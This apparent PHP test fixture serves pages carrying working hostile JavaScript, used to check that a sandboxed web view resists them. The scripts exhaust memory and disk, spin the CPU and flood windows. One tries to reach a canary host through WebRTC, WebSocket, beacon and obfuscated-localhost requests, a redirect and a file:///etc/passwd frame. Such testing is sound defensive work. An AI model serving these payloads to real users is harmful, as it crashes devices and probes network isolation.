<?php

declare(strict_types=1);

namespace Ypomna\Tests\Support;

use Ypomna\Standin\Web\Request;
use Ypomna\Standin\Web\Response;
use Ypomna\Standin\Web\Site;

/** Pages that go for the machine on which they are kept. Port and address of the canary that they try to reach are in their own. */
final class AttackSite implements Site
{
    public const HOST = 'attack.test';

    private const SCRIPTS = [
        // A web view would be ended by its heap's limit; these bytes are outside of it.
        'memory' => 'const kept = []; setInterval(() => { for (let n = 0; n < 8; ++n) kept.push(new Uint8Array(16 << 20).fill(7)); }, 20);',
        'disk' => 'const open = indexedDB.open("fill"); open.onupgradeneeded = () => open.result.createObjectStore("s", { autoIncrement:'
            .' true }); open.onsuccess = () => { const more = () => { const bytes = new Uint8Array(8 << 20); for (let at = 0; at <'
                .' bytes.length; at += 65536) crypto.getRandomValues(bytes.subarray(at, at + 65536)); const put ='
                    .' open.result.transaction("s", "readwrite").objectStore("s").add(bytes); put.onsuccess = more; }; more(); };',
        'spin' => 'setTimeout(() => { for (;;); }, 100);',
        'windows' => 'setInterval(() => { for (let n = 0; n < 20; ++n) { window.open("/plain?" + Math.random()); const f ='
            .' document.createElement("iframe"); f.src = "/plain?" + Math.random(); document.body.append(f); } }, 10);',
        'out' => <<<'JS'
            const to = 'PLACE:PORT';
            const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to }, { urls: 'turn:' + to + '?transport=tcp',
              username: 'a', credential: 'b' }] });
            peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
            fetch('http://' + to + '/fetched', { mode: 'no-cors' }).catch(() => 0);
            new WebSocket('ws://' + to + '/socket'); navigator.sendBeacon('http://' + to + '/beacon', 'x');
            for (const host of ['localhost', '0x7f.1', '2130706433', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0', 'localtest.attack.test'])
              new Image().src = 'http://' + host + ':PORT/image';
            new Image().src = '/redirect?http://' + to + '/redirected';
            document.body.insertAdjacentHTML('beforeend',
              '<iframe src="http://' + to + '/frame"></iframe>' +
              '<iframe src="file:///etc/passwd"></iframe><object data="ftp://' + to + '/x"></object>' +
              '<link rel=preconnect href="http://' + to + '"><link rel=dns-prefetch href="//' + to + '">');
            try { new WebTransport('https://' + to + '/transport'); } catch {}
            JS,
    ];

    public function hosts(\DateTimeImmutable $now): array
    {
        return [self::HOST];
    }

    public function answer(Request $request): Response
    {
        [, $name, $port, $place] = explode('/', $request->path.'///');

        return match (true) {
            '/redirect' === $request->path => new Response(302, [['Location', $request->query]], ''),
            isset(self::SCRIPTS[$name]) => Response::html(
                '<title>'.$name
                    .'</title><p>A page that means no good, with some text for a reader to find in what was kept of it.</p><script>'
                    .str_replace(['PORT', 'PLACE'], [$port, $place], self::SCRIPTS[$name]).'</script>',
            ),
            default => Response::html('<title>Plain</title><p>A plain page.'),
        };
    }
}
